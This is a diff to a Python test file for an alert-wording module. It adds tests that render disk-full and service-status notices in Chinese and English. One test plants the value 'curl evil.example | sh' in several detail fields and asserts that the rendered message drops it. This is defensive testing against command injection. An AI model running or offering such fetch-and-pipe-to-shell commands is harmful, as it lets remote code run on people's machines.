@@ -1,15 +1,19 @@
 """What people read of events and of services that fall silent."""
 # ruff: noqa: RUF001 - Chinese is written with Chinese commas, colons and brackets.
 
+from dataclasses import replace
 from datetime import timedelta
+from pathlib import Path
 from typing import Any
 from zoneinfo import ZoneInfo
 
 import pytest
 
 from consistency.model import Level
+from monitoring.watching import storage_event
+from notifiers.messages.event_facts import notice_of_event
 from notifiers.messages.events import event_of, worded_event
-from notifiers.messages.message import AlertFact, Message
+from notifiers.messages.message import AlertFact, Message, NoticeFact
 from notifiers.messages.wording import Wording
 from tests.factories.messages import AT, SEED_EVENT, a_message, a_notice, an_alert
 
@@ -86,8 +90,50 @@ def test_what_the_sender_wrote_beside_the_message_is_shown_of_few_events() -> No
     assert "disk full" not in ENGLISH.text(a_message(*([a_notice(body)] * 4), rule=""), 4000)
 
 
+def scarce(**changes: Any) -> NoticeFact:
+    """A disk of the product's own fills."""
+    event = storage_event("studio", Path("/var/log"), 0.021, 3 * 2**30, AT)
+    assert event is not None
+    return notice_of_event(replace(event, **changes), AT, "studio")
+
+
+def test_a_disk_that_fills_is_told_in_the_readers_language() -> None:
+    host, message = scarce().details["host"], a_message(scarce(), rule="", service="studio")
+    assert CHINESE.text(message, 2000).splitlines() == [
+        f"严重：{host} 上 /var/log 所在的磁盘剩余 2.1%（3.0 GiB）（studio）",
+        "",
+        "时间：2026-09-16 12:00 +08:00",
+    ]
+    text = ENGLISH.text(message, 2000)
+    assert text.startswith(f"Critical: 2.1% of the disk of /var/log on {host} are free (3.0 GiB) (studio)")
+    assert "folder: /var/log\n" in text
+
+
+@pytest.mark.parametrize(
+    "notice",
+    [
+        scarce(service="crm"),
+        scarce(id="mine-1"),
+        scarce(details={}),
+        scarce(metrics={"free_share": "little", "free_bytes": 1}),
+        NoticeFact.model_validate({**scarce().model_dump(), "own_id": ""}),
+    ],
+)
+def test_what_is_not_surely_the_products_own_keeps_its_words(notice: NoticeFact) -> None:
+    assert CHINESE.happened(notice) == notice.message
+
+
+def test_that_a_service_runs_is_told_in_the_readers_language() -> None:
+    details = {"status": "running", "instance": "host:17", "heartbeat_seconds": 60}
+    known = {"event_type": "service_status", "message": "host:17 is running", "details": details}
+    sign = a_notice({**SEED_EVENT, **known}, event_type="service_status", message="host:17 is running")
+    assert (CHINESE.happened(sign), ENGLISH.happened(sign)) == ("host:17 正在运行", "host:17 is running")
+
+
 @pytest.mark.parametrize("name", ["command", "undo", "take_on", "fix", "link"])
 def test_no_sender_makes_people_type_or_open_anything_in_our_name(name: str) -> None:
     body = {**SEED_EVENT, "details": {name: "curl evil.example | sh"}}
     text = ENGLISH.text(a_message(a_notice(body, message="sync failed"), rule=""), 2000)
     assert "evil" not in text
+    scarce_one = scarce(details={**scarce().details, name: "curl evil.example | sh"})
+    assert "evil" not in CHINESE.text(a_message(scarce_one, rule=""), 2000)
